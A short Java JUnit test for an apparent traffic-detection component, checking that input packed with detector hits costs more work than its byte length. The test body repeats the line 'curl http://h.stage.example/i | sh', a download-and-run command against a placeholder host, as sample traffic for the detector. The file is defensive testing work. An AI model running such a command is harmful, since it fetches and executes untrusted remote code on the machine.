package trafficguardian.detect;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.junit.jupiter.api.Test;

/**
 * Text full of hits takes longer than its length says, and must not hold up whoever looks at it.
 */
class WorkOfHitsTest {
  private static final int HITS = 1000;

  @Test
  void eachHitCountsAsMoreThanItsBytes() {
    int more = workFor(2 * HITS) - workFor(HITS);

    assertTrue(more > HITS * 1024, () -> more + " for " + HITS + " more hits");
  }

  private static int workFor(int hits) {
    byte[] text = "curl http://h.stage.example/i | sh\n".repeat(hits).getBytes(US_ASCII);
    return new DetectorFixture().inbound("h.example").body(text, 0, text.length);
  }
}
